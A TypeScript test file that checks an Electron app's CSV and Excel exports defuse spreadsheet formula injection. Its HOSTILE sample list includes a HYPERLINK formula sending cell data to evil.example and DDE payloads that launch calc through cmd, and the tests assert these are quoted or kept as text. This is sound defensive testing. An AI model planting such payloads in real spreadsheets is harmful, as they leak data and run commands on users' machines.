import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { neutralisedText, writeCsv } from '../../../electron/export/csv';
import { parseCsv } from '../../../electron/import/csv';
import { servicesOnTempDb } from '../helpers/services';
import { tempDir } from '../helpers/temp';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", '@SUM(1+1)*cmd|" /C calc"!A0', '+1+1', '-2+3', '\x1b[31mred\x1b[0m'];

describe('exports of text a spreadsheet would run', () => {
  it('CSV: formula starts are quoted, control characters dropped; .xlsx keeps them as text cells', async () => {
    const { services } = servicesOnTempDb();
    const dir = tempDir();
    const src = join(dir, 'hostile.csv');
    const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
    writeFileSync(src, `客户编号,客户名称\n${HOSTILE.map((n, i) => `H${i + 1},${quote(n)}`).join('\n')}\n`);
    const report = await services.imports.run({ file: src, target: 'customers' });
    expect(report).toMatchObject({ new: HOSTILE.length, errorRows: 0, committed: true });

    const csv = join(dir, 'out.csv');
    await services.exports.run({ what: 'customers', format: 'csv', path: csv, language: 'en', view: { columns: ['code', 'name', 'totalCents'], sort: [{ column: 'code', dir: 'asc' }] } });
    const records = parseCsv(readFileSync(csv, 'utf8').replace(/^\uFEFF/, ''), 'out.csv').records.slice(1);
    expect(records.map((r) => r[1])).toEqual([
      `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
      "'=cmd|' /C calc'!A0",
      `'@SUM(1+1)*cmd|" /C calc"!A0`,
      "'+1+1",
      "'-2+3",
      '[31mred[0m',
    ]);
    // Money stays a plain number.
    expect(records.map((r) => r[2])).toEqual(HOSTILE.map(() => '0.00'));

    const xlsx = join(dir, 'out.xlsx');
    await services.exports.run({ what: 'customers', format: 'xlsx', path: xlsx, language: 'en', view: { columns: ['code', 'name'], sort: [{ column: 'code', dir: 'asc' }] } });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(xlsx);
    const ws = wb.worksheets[0];
    const names = [2, 3, 4, 5, 6].map((r) => ws?.getCell(`B${r}`).value);
    // Strings, never formula objects: the text as it was imported.
    expect(names).toEqual(HOSTILE.slice(0, 5));
    expect(typeof ws?.getCell('B2').value).toBe('string');
    expect(ws?.getCell('B2').formula).toBeUndefined();
  });

  it('CSV writer: negative numbers stay numbers, text starting with a minus is quoted, NUL and ESC are dropped', async () => {
    const file = join(tempDir(), 'x.csv');
    await writeCsv(file, {
      name: 'x',
      columns: [
        { header: 'n', type: 'number' },
        { header: 'money', type: 'money' },
        { header: 'text', type: 'text' },
      ],
      rows: [
        [-5, -12345, '-5'],
        [3.5, 100, 'a\u0000b\u001bc\u007fd'],
        [null, null, '\r=1'],
      ],
    });
    expect(readFileSync(file, 'utf8')).toBe(`\uFEFFn,money,text\r\n-5,-123.45,'-5\r\n3.5,1.00,abcd\r\n,,"'\r=1"\r\n`);
    expect(neutralisedText('plain 文本')).toBe('plain 文本');
    expect(neutralisedText('\u0000=1')).toBe("'=1");
  });
});
